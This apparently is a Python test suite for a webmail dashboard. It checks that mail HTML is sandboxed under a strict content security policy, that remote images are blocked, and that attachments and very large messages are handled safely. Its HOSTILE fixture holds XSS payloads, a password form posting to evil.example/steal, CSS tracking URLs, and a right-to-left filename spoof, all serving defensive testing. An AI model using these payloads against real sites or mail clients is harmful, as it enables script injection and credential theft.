"""One mail on its page: HTML that can do nothing, pictures that wait, files, source; and hostile mail."""

import base64
import re

from selectolax.lexbor import LexborHTMLParser

HOSTILE = """
<html><head><base href="https://evil.example/"><meta http-equiv="refresh" content="0;url=https://evil.example/">
<link rel="stylesheet" href="https://evil.example/x.css">
<style>@import url(https://evil.example/x.css); input[value^=a]{background:url(https://evil.example/a)}</style>
<script>parent.document.title='PWNED'</script></head>
<body onload="alert(1)" style="background:url('https://evil.example/b.png');width:expression(alert(1))">
<p>This is the text of a hostile mail.</p>
<img src=x onerror="alert(1)"><img src="javascript:alert(1)"><img src="data:image/svg+xml,<svg onload=alert(1)>">
<img srcset="https://evil.example/s.png 2x"><svg onload="alert(1)"><script>alert(1)</script></svg>
<a href="javascript:alert(1)">one</a><a href="data:text/html,<script>alert(1)</script>">two</a>
<a href="https://shop.example/" onclick="alert(1)" target="_top">three</a><a href="/dashboard/sign-out">four</a>
<form action="https://evil.example/steal"><input name="password" type="password"><button>Sign in</button></form>
<iframe src="https://evil.example/"></iframe><object data="https://evil.example/x"></object>
<embed src="https://evil.example/x"><video src="https://evil.example/v" poster="https://evil.example/p"></video>
<div style="position:fixed;top:0;left:0;width:9999px;height:9999px;z-index:99999">over everything</div>
<p style="background-image:\\75rl(https://evil.example/esc.png)">escaped</p>
<p style="background:u&#114;l(https://evil.example/ent.png)">entity</p>
<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></table></math>
<noscript><p title="</noscript><img src=x onerror=alert(1)>"></p></noscript>
<template><img src=x onerror=alert(1)></template></div></div></td></tr></table></body></html>
"""
PIXEL = base64.b64decode(
    "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg=="
)


def policy_of(shown):
    """The directives of an answer's policy."""
    parts = (one.strip().partition(" ") for one in shown.headers["content-security-policy"].split(";"))
    return {name: value.split() for name, _, value in parts}


def file(name, content, kind="application/octet-stream", **more):
    """An attachment as the API takes it."""
    return {
        "filename": name,
        "contentType": kind,
        "contentBase64": base64.b64encode(content).decode(),
        **more,
    }


async def test_html_is_in_a_frame_that_can_do_nothing(api, browser):
    mail = await api.mail(await api.inbox(), html="<p>Hello <b>there</b></p>", text="Hello there")
    page = await browser.get(f"/dashboard/threads/{mail['threadId']}")
    frame = page.one("iframe.mail-frame")
    assert set(frame.attributes["sandbox"].split()) == {"allow-popups", "allow-popups-to-escape-sandbox"}
    shown = await browser.get(frame.attributes["src"])
    assert "<b>there</b>" in shown.text
    policy = policy_of(shown)
    assert policy["default-src"] == ["'none'"]
    assert policy["img-src"] == ["data:"]
    assert policy["style-src"] == ["'unsafe-inline'"]
    assert policy["frame-ancestors"] == ["'self'"]
    assert policy["form-action"] == policy["base-uri"] == ["'none'"]
    assert {"allow-scripts", "allow-same-origin", "allow-forms"}.isdisjoint(policy["sandbox"])
    assert shown.headers["referrer-policy"] == "no-referrer"
    # Nothing of the mail's HTML is in the page itself.
    assert "<b>there</b>" not in page.text


async def test_the_attacks_that_everybody_knows_leave_nothing(api, browser):
    mail = await api.mail(await api.inbox(), html=HOSTILE, text="hostile")
    for query in ("part=all", "part=new", "part=all&remote=yes"):
        shown = await browser.get(f"/dashboard/messages/{mail['id']}/frame?{query}")
        body = LexborHTMLParser(shown.text).body
        assert "This is the text of a hostile mail." in body.text()
        assert not body.css(
            "script, style, link, meta, base, form, input, button, iframe, object, embed, video, svg, math"
        )
        for one in body.css("*"):
            attributes = one.attributes
            assert not [name for name in attributes if name.startswith("on") or name in {"srcset", "poster", "action"}]
            style = (attributes.get("style") or "").lower()
            assert "position" not in style
            assert "expression" not in style
            # What is left of it is no colour: nothing is fetched for it.
            assert "url(" not in style or "background-color" in style
            assert (attributes.get("href") or "https://").startswith(("https://", "http://", "mailto:", "tel:"))
        # Links open elsewhere, and learn nothing.
        links = {one.text(): one.attributes for one in body.css("a[href]")}
        assert set(links) == {"three"}
        assert links["three"]["target"] == "_blank"
        assert {"noopener", "noreferrer"} <= set(links["three"]["rel"].split())
        assert not [one for one in body.css("img[src]") if "evil" in one.attributes["src"]]


async def test_remote_pictures_wait_until_they_are_asked_for(api, browser):
    html = (
        '<p>Look</p><img src="https://pictures.example/a.png"><img src="https://pictures.example/b.png">'
        '<img src="http://plain.example/c.png">'
    )
    mail = await api.mail(await api.inbox(), html=html, text="Look")
    page = await browser.get(f"/dashboard/threads/{mail['threadId']}")
    assert "3 remote pictures blocked" in page.words(".blocked")
    frame = await browser.get(page.one("iframe").attributes["src"])
    assert "pictures.example" not in frame.text
    assert "https:" not in policy_of(frame)["img-src"]
    body = await browser.fragment(page.one(".blocked a").attributes["hx-get"])
    assert "1 picture would come without encryption" in body.words(".blocked")
    loaded = await browser.get(body.one("iframe").attributes["src"])
    assert [one.attributes["src"] for one in loaded.all("img[src]")] == [
        "https://pictures.example/a.png",
        "https://pictures.example/b.png",
    ]
    assert policy_of(loaded)["img-src"] == ["data:", "https:"]
    assert "plain.example" not in loaded.text


async def test_pictures_that_came_along_are_shown_and_no_others(api, browser):
    mail = await api.mail(
        await api.inbox(),
        html='<p>Chart</p><img src="cid:chart@x"><img src="cid:other@x"><img src="cid:vector@x">',
        text="Chart",
        attachments=[
            file("chart.png", PIXEL, "image/png", contentId="<chart@x>", inline=True),
            file("vector.svg", b"<svg xmlns='http://www.w3.org/2000/svg'/>", "image/svg+xml", contentId="<vector@x>"),
        ],
    )
    frame = await browser.get(f"/dashboard/messages/{mail['id']}/frame?part=all")
    (picture,) = frame.all("img[src]")
    address = picture.attributes["src"]
    assert address.startswith("/attachments/att_")
    allowed = policy_of(frame)["img-src"]
    assert allowed[0] == "data:"
    assert [one.endswith(address.partition("?")[0]) for one in allowed[1:]] == [True]
    async with browser.session.get(browser.url + address) as answer:
        assert (answer.status, await answer.read()) == (200, PIXEL)


async def test_files_say_what_they_are(api, browser):
    mail = await api.mail(
        await api.inbox(),
        attachments=[
            file("notes.txt", b"Dock 7, not Dock 8.", "text/plain"),
            file("invoice\u202efdp.exe", b"MZ"),
            file("L" * 200 + ".zip", b"PK\x05\x06" + b"\0" * 18, "application/zip"),
        ],
    )
    page = await browser.get(f"/dashboard/threads/{mail['threadId']}")
    notes, program, _ = page.all(".file")
    assert "19 bytes" in notes.text()
    assert "invoicefdp.exe" in program.text()
    assert "can run code" in program.text()
    assert "\u202e" not in page.text
    link = notes.css_first("a[download]").attributes["href"]
    async with browser.session.get(browser.url + link) as answer:
        assert await answer.read() == b"Dock 7, not Dock 8."
    text = await browser.fragment(notes.css_first("a[hx-get]").attributes["hx-get"])
    assert "Dock 7, not Dock 8." in text.text
    assert "<html" not in text.text


async def test_the_source_is_text(api, browser):
    mail = await api.mail(await api.inbox(), html="<script>alert(1)</script><p>Hi</p>", text="Hi")
    page = await browser.get(f"/dashboard/messages/{mail['id']}/source")
    assert not page.all("pre.source *")
    assert "<script>alert(1)</script>" in page.one("pre.source").text()
    saved = await browser.get(f"/dashboard/messages/{mail['id']}/source.eml")
    assert saved.headers["content-type"].startswith("message/rfc822")
    assert saved.headers["content-disposition"].startswith("attachment")
    assert "Message-ID:" in saved.text
    big = await api.mail(await api.inbox(), text="word " * 80_000)
    cut = await browser.get(f"/dashboard/messages/{big['id']}/source")
    assert "of which this is the beginning" in cut.words(".page-head")
    assert len(cut.text) < 700_000


async def test_mail_to_thousands_and_words_without_end_are_bounded(api, browser):
    people = ",\r\n ".join(f"P{number} <p{number}@list.example>" for number in range(10_000))
    raw = (
        f"From: \u202eBig <big@list.example>\r\nTo: {people}\r\nSubject: \u202e{'W' * 900}\r\n"
        f"Message-ID: <many@list.example>\r\nContent-Type: text/plain; charset=utf-8\r\n\r\n{'A' * 300_000}\r\n"
    )
    inbox = await api.inbox()
    mail = await api.made("/simulate/inbound", {"inboxId": inbox["id"], "raw": base64.b64encode(raw.encode()).decode()})
    page = await browser.get(f"/dashboard/threads/{mail['threadId']}")
    assert page.status == 200
    assert len(page.text) < 120_000
    assert "\u202e" not in page.text
    assert re.search(r"P0, P1, P2 and [\d,]+ more", page.words(".mail-to"))
    assert "This is its beginning" in page.words(".mail-body")
    listed = await browser.get(f"/dashboard/threads?inbox={mail['inboxId']}")
    assert len(listed.words(".thread-subject")) <= 201
    answer = await browser.get(f"/dashboard/threads/{mail['threadId']}/answer?action=reply_all")
    assert answer.status == 200
    assert len(answer.text) < 150_000


async def test_a_message_leads_to_its_conversation(api, browser):
    mail = await api.mail(await api.inbox())
    shown = await browser.get(f"/dashboard/messages/{mail['id']}")
    assert shown.path.startswith(f"/dashboard/threads/{mail['threadId']}?at={mail['id']}")
    assert (await browser.get("/dashboard/messages/msg_000000000000000000")).status == 404
